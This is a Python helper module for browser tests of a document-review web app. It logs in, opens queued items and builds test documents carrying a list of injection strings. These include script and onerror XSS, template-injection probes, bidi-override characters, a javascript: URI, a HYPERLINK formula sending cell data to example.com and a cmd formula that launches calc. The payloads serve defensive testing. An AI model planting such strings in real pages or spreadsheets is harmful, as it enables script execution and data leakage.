"""Shared by the tests in a browser: the log-in, and documents that want to be more than text."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

from desk_cases import record
from hyeoksin.domain import Document
from web_client import PASSWORD

if TYPE_CHECKING:
    from playwright.sync_api import Page

__all__ = ["HOSTILE", "WAIT_MS", "hostile_rows", "log_in", "open_next", "ready"]

WAIT_MS = 90_000  # for a page, on a machine that others use too

HOSTILE = (
    "<script>window.hit=1</script>",
    '"><img src=x onerror="window.hit=1">',
    "{{ 7*7 }}{% raw %}${7*7}",
    "\u202e뒤집힌\u2066 글\u200f",
    '=HYPERLINK("http://example.com/?"&A1,"누르세요")',
    "javascript:window.hit=1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)


def hostile_rows() -> list[tuple[Document, dict[str, Any]]]:
    """Return a document per trick, with it in the title, the text, the source and a further column."""
    return [
        (
            Document(
                f"나쁜-{n}",
                f"{trick}\n본문 {trick}",
                trick,
                f"{trick}.xlsx#row={n}",
                region=trick,
                meta={trick: trick},
            ),
            record(n, notes=[trick]),
        )
        for n, trick in enumerate(HOSTILE)
    ]


def log_in(page: Page, name: str) -> None:
    """Log in by the page."""
    page.set_default_timeout(WAIT_MS)
    page.goto("/login")
    page.fill("#name", name)
    page.fill("#password", PASSWORD)
    page.click("main button.main")
    page.wait_for_url(lambda url: "/login" not in url)


def ready(page: Page) -> None:
    """Wait until the page listens to keys: its script shows the button that explains them."""
    page.locator("button[data-help]:visible").wait_for()


def open_next(page: Page, number: int) -> str:
    """Open the first document of a round's queue by keyboard; return its address."""
    page.goto(f"/rounds/{number}/queue")
    page.keyboard.press("Enter")
    page.wait_for_url("**/items/*")
    ready(page)
    return page.url
